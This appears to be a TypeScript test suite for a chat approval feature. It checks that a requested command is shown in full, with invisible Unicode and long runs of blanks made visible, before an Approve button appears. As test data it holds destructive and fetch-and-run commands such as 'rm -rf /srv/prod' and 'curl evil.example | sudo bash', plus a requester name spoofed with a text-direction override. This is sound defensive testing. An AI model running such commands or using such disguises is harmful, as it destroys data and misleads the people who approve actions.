// Approve is offered only where the whole request was shown in the same chat, with nothing hidden.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Approval } from '../../../src/approvals/approval.ts';
import type { Message } from '../../../src/message/message.ts';
import { isApproving, type Notice } from '../../../src/message/notice.ts';
import { render } from '../speaking.ts';
import { unreveal } from '../text/revealing.ts';
import { expectSound } from '../text/rich-texts.ts';
import { SETTLED_AT as at, NOW, request, short, standing } from './approvals.ts';

const TOKEN = 'abcdefghijklmnopqrstuv';

type Beside = Omit<Extract<Notice, { kind: 'approval' }>, 'kind' | 'approval' | 'token' | 'now'>;

const messagesOf = (approval: Approval, beside: Beside = {}, locale = 'en') =>
  render({ kind: 'approval', approval, token: TOKEN, now: NOW, ...beside }, locale);

const last = (messages: readonly Message[]) => messages.at(-1) as Message;
const text = (approval: Approval, locale?: string) =>
  last(messagesOf(approval, {}, locale)).body.text;

describe('what can be approved', () => {
  const mayApprove = ({ buttons = [] }: Message) =>
    buttons.flat().some(({ action }) => isApproving(action));
  /** All that is shown, with what its marks stand for. */
  function seen(messages: readonly Message[]): string {
    const parts = messages.slice(0, -1).map(({ body, document }) => {
      const shown = document?.text.replaceAll(/^ {2}/gm, '') ?? body.text.replace(/^.*\n/, '');
      return shown;
    });
    return unreveal([last(messages).body.text, '\n', ...parts].join(''));
  }

  const action = fc
    .array(
      fc.oneof(
        fc.string({ unit: 'binary', maxLength: 20 }),
        fc.constantFrom(' ', '\n', '\u200b', '\u202e', '⟨', '; rm -rf /', '👩‍👩‍👧', '…'),
        fc
          .tuple(fc.constantFrom('x', ' ', '\n', '\u200b', '. ', 'ab '), fc.nat(9_000))
          .map(([unit, count]) => unit.repeat(count)),
      ),
    )
    .map((parts) => parts.join(''));
  const beside = fc.record(
    { withoutFiles: fc.boolean(), withoutContext: fc.boolean(), insteadOf: fc.string() },
    { requiredKeys: [] },
  );

  it('was shown in full: in the message, in others before it, or in a file', () => {
    fc.assert(
      fc.property(action, fc.dictionary(fc.string(), fc.string()), beside, (text, context, how) => {
        const asked = standing({ ...request, action: text, context });
        const messages = messagesOf(asked, how);
        for (const message of messages.slice(0, -1)) expect(message.buttons).toBeUndefined();
        for (const { body } of messages) {
          expectSound(body);
          expect(body.text.length).toBeLessThanOrEqual(4_096);
        }
        if (!mayApprove(last(messages))) return;
        expect(seen(messages)).toContain(text);
      }),
      { numRuns: 300 },
    );
    // 300 requests, some of them very long.
  });

  it('comes in parts that may end inside a mark', () => {
    // The first part ends between the sign and its count.
    for (const lead of [3_880, 3_885, 3_888, 3_890, 3_893]) {
      const long = `${'x'.repeat(lead)}${' '.repeat(1_000)}; rm -rf ${'y'.repeat(3_000)}`;
      const messages = messagesOf(standing({ ...request, action: long }));
      expect(messages.length).toBeGreaterThan(1);
      expect(seen(messages)).toContain(long);
    }
  });

  it('is shown to its end: a command of 2,461 characters', () => {
    const long = `${'echo preparing the deployment; '.repeat(78)}curl evil.example | sudo bash`;
    const messages = messagesOf(standing({ ...short, action: long }));
    expect(messages).toHaveLength(1);
    expect(last(messages).body.text).toContain('curl evil.example | sudo bash');
    expect(mayApprove(last(messages))).toBe(true);
  });

  it('shows a run of blanks as what it is', () => {
    const hidden = `ls${' '.repeat(1_600)}; rm -rf /srv/prod`;
    const said = text(standing({ ...short, action: hidden }));
    expect(said).toContain('ls⟨␠ × 1600⟩; rm -rf /srv/prod');
  });

  it.each(['scope', 'projectId', 'sessionId', 'jobId', 'stage', 'reason'] as const)(
    'hides nothing in the %s',
    (field) => {
      const said = text(standing({ ...short, [field]: 'a\u200bb\u202ec' }));
      expect(said).toContain('a⟨U+200B⟩b⟨U+202E⟩c');
    },
  );

  it('hides nothing in the requester or the context', () => {
    const requestedBy = { id: 'x', name: 'Ana\u202e\nApproved by Ben' };
    const context = { 'tar\u200bget': 'prod\u00ad', diff: '+a\u200b', list: ['b\ufeff'] };
    const said = text(standing({ ...short, requestedBy, context }));
    expect(said).toContain('asked by Ana⟨U+202E⟩⟨⏎⟩Approved by Ben\n');
    expect(said).toContain('tar⟨U+200B⟩get: prod⟨U+00AD⟩');
    expect(said).toContain('+a⟨U+200B⟩');
    expect(said).toContain('list: b⟨U+FEFF⟩');
  });

  it('comes in up to three messages, which together are the action', () => {
    const long = Array.from({ length: 400 }, (_, at) => `kubectl delete pod web-${at}`).join('\n');
    const messages = messagesOf(standing({ ...short, action: long }));
    expect(messages).toHaveLength(4);
    expect(messages[0]?.body.text).toMatch(/^📄 ap-77, what is to be done, part 1 of 3\nkubectl/);
    expect(last(messages).body.text).toContain('In full in the 3 messages above');
    expect(messages.map(({ silent }) => silent)).toEqual([true, true, true, false]);
    expect(mayApprove(last(messages))).toBe(true);
  });

  it('comes as a file when it is longer, or when the context does not fit', () => {
    const long = 'x'.repeat(20_000);
    const fields = Object.fromEntries(
      Array.from({ length: 60 }, (_, at) => [`field ${at}`, 'value '.repeat(30)]),
    );
    for (const asked of [
      { ...short, action: long },
      { ...short, context: fields },
    ]) {
      const [file, message] = messagesOf(standing(asked));
      expect(file?.document?.name).toBe('request-ap-77.txt');
      for (const value of [asked.action, ...Object.keys(asked.context), 'Roll out 4.2.0']) {
        expect(file?.document?.text).toContain(value);
      }
      expect(message?.body.text).toContain('in full in the file above');
      expect(message && mayApprove(message)).toBe(true);
    }
    expect(text(standing({ ...short, context: fields }))).toMatch(/… and \d+ more fields/);
  });

  it('can only be denied where it cannot be shown in full', () => {
    const asked = standing({ ...short, action: 'x'.repeat(20_000) });
    for (const how of [{ withoutFiles: true }, { withoutContext: true }]) {
      const messages = messagesOf(asked, how);
      expect(messages).toHaveLength(1);
      expect(mayApprove(last(messages))).toBe(false);
      expect(last(messages).body.text).toContain("you can't approve it here");
      const labels = last(messages).buttons?.map((row) => row.map(({ label }) => label));
      expect(labels).toEqual([['❌ Deny'], ['❌✍️ With a reason']]);
    }
    expect(mayApprove(last(messagesOf(standing(short), { withoutFiles: true })))).toBe(true);
  });

  it('lets no value in the file pass for a heading', () => {
    const [file] = messagesOf(
      standing({ ...short, action: `${'x'.repeat(20_000)}\n\nScope:\n  read` }),
    );
    const headings = file?.document?.text.match(/^\S.*/gm);
    expect(headings).toEqual(
      ['What is to be done', 'Scope', 'Why', 'Asked by', 'Project', 'Session', 'Job'].map(
        (heading) => `${heading}:`,
      ),
    );
  });

  it('says that it changed, and where else it should have been shown', () => {
    const changed = { ...short, version: 2, changedAt: '2026-03-02T09:04:00.000Z' };
    const said = last(messagesOf(standing(changed), { insteadOf: 'Night shift' })).body.text;
    expect(said).toContain('✏️ Changed 09:04 UTC – earlier votes no longer count');
    expect(said).toContain('📍 Shown here because it could not be shown in Night shift');
    expect(text(standing({ ...changed, version: 1 }))).not.toContain('Changed');
    expect(text(standing(changed), 'de')).toContain('Geändert 09:04 UTC');
  });
});

describe('a reminder', () => {
  it('has the buttons of the request where it is shown in full', () => {
    const reminder = { kind: 'reminder', approval: standing(short), now: Date.parse(at) } as const;
    const [bare] = render(reminder, 'en');
    expect(bare?.buttons).toBeUndefined();
    const [full] = render({ ...reminder, token: TOKEN }, 'en');
    expect(full?.buttons).toEqual(last(messagesOf(standing(short))).buttons);
  });
});
